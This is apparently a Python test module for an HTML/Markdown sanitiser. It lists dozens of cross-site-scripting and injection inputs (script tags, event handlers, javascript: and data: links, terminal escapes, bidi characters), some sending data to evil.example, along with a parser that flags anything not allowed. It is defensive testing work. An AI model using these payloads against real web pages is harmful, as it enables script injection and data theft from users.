"""Inputs that try to get out of the answer, and what may be found in ours."""

import re
from html.parser import HTMLParser

CASES = {
    "script": "<script>alert(1)</script>",
    "script in words": "so <b>bold</b> <script src=//evil.example></script>",
    "onerror": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "style": "<style>*{display:none}</style><p style='background:url(//evil.example)'>",
    "form": '<form action="https://evil.example"><input name=key><button>Go</button></form>',
    "details": "</details></section><script>alert(1)</script>",
    "end of script": "</script><script>alert(1)</script>",
    "comment": "<!-- x --><!DOCTYPE x><?php ?><![CDATA[x]]>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link, entity": "[x](javascript&colon;alert(1)) [y](&#106;avascript:f)",
    "javascript link, blanks": "[x](<java\tscript:alert(1)>) [y]( JaVaScRiPt:alert(1) )",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript link": "[x](vbscript:x)",
    "file link": "[x](file:///etc/passwd) [y](/api/kernels) [z](//evil.example)",
    "autolink": "<javascript:alert(1)> <data:text/html,x> <https://ok.example/a>",
    "autolink in link": "[a <https://ok.example/a> b](https://evil.example) [<x:y>](x:z)",
    "reference link": "[x][r] ![y][r]\n\n[r]: javascript:alert(1)",
    "reference image": "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "image": "![alt](https://evil.example/?q=secret)",
    "image in link": "[![alt](https://evil.example/i)](https://other.example)",
    "image, quotes": '![" onerror="alert(1)](https://evil.example/"onerror="x)',
    "svg image": "![x](data:image/svg+xml;base64,PHN2Zz4=) ![y](data:text/html,x)",
    "link title": '[x](https://ok.example "onmouseover=alert(1)\\" x=")',
    "link quotes": "[x](https://ok.example/\"onclick='alert(1))",
    "broken host": "[x](http://[) [y](http://) [z](http://a]b/)",
    "html in a table": "|a|\n|-|\n| <script>x</script> |\n| [x](javascript:x) |\n| `<b>\\|` |",
    "html in code": "`<script>` ``<img onerror=x>``\n\n    <script>\n\n```\n<script>\n```",
    "fence info": '```"><script>alert(1)</script>\nx\n```',
    "code that ends early": "`````\n```\n<script>\n`````\n\n`` ` <script> ``",
    "nested brackets": "[[[x](javascript:alert(1))](https://a.example)]((((",
    "brackets, then code": "[a`](javascript:alert(1)) `",
    "formula with html": "$<img src=x onerror=alert(1)>$ and $$</span><script>$$",
    "formula with link": r"$\href{javascript:alert(1)}{x}$ \(\url{x}\) \[\require{html}\]",
    "formula with code": "$`$ and `<img src=x onerror=alert(1)>`",
    "formula with fence": "$$\n~~~\n$$\n\n```\n~~~\n<script>\n```",
    "formula with markdown link": r"$[a](javascript:alert(1))$",
    "formula in words": r"$ \href{javascript:alert(1)}{x} $ \begin{a}\href{x}{y}",
    "environment": "\\begin{align}\n\\href{javascript:alert(1)}{x}\n\\end{align}",
    "definitions": r"$\def\frac{x}$ $\newcommand{\a}{b}$ $\let\a\href$",
    "bidi": "abc\u202edef\u2066x &#x202E; `\u202e`",
    "escapes": "\x1b[31mred\x1b]0;title\x07 &#27;[2J \x9b31m `\x1b[2J`",
    "nul and surrogates": "a\x00b\ud800c \udfff [x](https://a.example/\ud800)",
    "raw end of list": "- <script>\n  - ![x](https://evil.example)\n\n  </details>",
    "body handlers": "<body onload=alert(1)><div onclick='f()' onmouseover=f()>x</div>",
    "media": '<video src="//evil.example/v" autoplay></video><audio src=//evil.example/a>',
    "embedded": '<object data="//evil.example"></object><embed src=//x><base href=//x>',
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example"><link href=//x>',
    "math": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "template": "<template><script>alert(1)</script></template><dialog open>x</dialog>",
    "css": "x{background:url(https://evil.example)} @import '//evil.example'; expression(x)",
    "style on our tags": '<span style="position:fixed;inset:0" class="jp-Cell" id="x">x</span>',
    "details inside": "<details open ontoggle=f()><summary>x</summary></details></summary>",
    "end of our tags": "</div></div></pre></code></table></span></summary></details><b>x",
    "title": "</title></textarea></style></noscript><img src=x onerror=alert(1)>",
    "upper case": "<ScRiPt>alert(1)</sCrIpT><IMG SRC=x ONERROR=alert(1)>",
    "unclosed": "<img src=x onerror=alert(1) x='",
    "slashes for spaces": "<img/src=x/onerror=alert(1)><svg/onload=alert(1)>",
    "data link, blanks": "[x](<data:text/html,<script>f()</script>>) [y]( DATA:text/html;x )",
    "blob link": "[x](blob:https://a.example/1) [y](filesystem:x) [z](ws://evil.example)",
    "media by markdown": "![v](https://evil.example/v.mp4) ![a](//evil.example/a.ogg)",
    "table in cell": "|a|b|\n|-|-|\n|</td></tr></table><script>|<img src=x onerror=x>|",
    "table, links": "|a|\n|-|\n|![x](https://evil.example) [y](data:text/html,x)|",
    "code, end": "```html\n</code></pre><script>f()</script>\n</details>\n```\n`</code><b>`",
    "boxed with html": r"\boxed{<img src=x onerror=alert(1)>} \boxed{</span><script>}",
    "boxed with commands": r"\boxed{\href{javascript:alert(1)}{x}} \boxed{$x$} \boxed{`<b>`}",
    "boxed, open": r"\boxed{<script> \boxed{\boxed{x} }}} `\boxed{` } <script>`",
    "bidi, more": "a\u200fb\u2067c\u2069 \u061c `\u2066x` [\u202ex](https://a.example/\u202e)",
    "escapes, more": "\x1b]8;;//evil.example\x07x\x1b]8;;\x07 \x1b[6n \x1bP+q\x1b\\ \x08\x0c",
    "struck": "~~<script>~~ ~~</span></div>~~",
    "headings": "# <script>\n\n<script>\n===\n\n> <script>\n> ---",
}

# The tags that nbconvert's sanitiser lets pass, and the few that have no other name.
TAGS = {"a", "blockquote", "code", "div", "em", "li", "ol", "pre", "span", "strong", "ul"}
TAGS |= {"table", "tr", "td"} | {"details", "summary", "img"}
# What a reader of Markdown makes of ours.
MARKDOWN_TAGS = TAGS | {"p", "h3", "h4", "h5", "h6", "s", "br", "hr", "thead", "tbody", "th"}
ATTRIBUTES = {"style", "href", "rel", "target", "src", "alt", "start", "title", "role", "dir"}
ATTRIBUTES |= {"aria-label", "aria-level", "tabindex"}
HREF = re.compile(r"(https?://|mailto:)")
SRC = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+")
STYLE = re.compile(r"[a-z0-9#.,:;%() -]*")
HIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


class _Reader(HTMLParser):
    def __init__(self, tags):
        super().__init__()
        self.tags, self.found, self.open = tags, [], []

    def handle_starttag(self, tag, attrs):
        if tag not in self.tags:
            self.found.append(f"tag {tag}")
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)
        if tag in ("details", "summary") and attrs:  # a sanitiser would print them
            self.found.append(f"attributes of {tag}")
        for name, value in attrs:
            allowed = {"href": HREF, "src": SRC, "style": STYLE}.get(name)
            if name not in ATTRIBUTES:
                self.found.append(f"attribute {name}")
            elif allowed and not (allowed.match if name == "href" else allowed.fullmatch)(
                value
            ):
                self.found.append(f"{name} {value}")
            elif name == "style" and ("url" in value or "var(" in value):
                self.found.append(f"style {value}")

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.found.append(f"stray end of {tag}")

    def handle_comment(self, data):
        self.found.append(f"comment {data}")

    def handle_decl(self, decl):
        self.found.append(f"declaration {decl}")

    def unknown_decl(self, data):
        self.found.append(f"declaration {data}")

    def handle_pi(self, data):
        self.found.append(f"instruction {data}")


def findings(html, tags=TAGS):
    """Return everything in the HTML that is not ours."""
    reader = _Reader(tags)
    reader.feed(html)
    reader.close()
    hidden = [f"hidden {sign!a}" for sign in HIDDEN.findall(html)]
    return reader.found + hidden + [f"{tag} left open" for tag in reader.open]
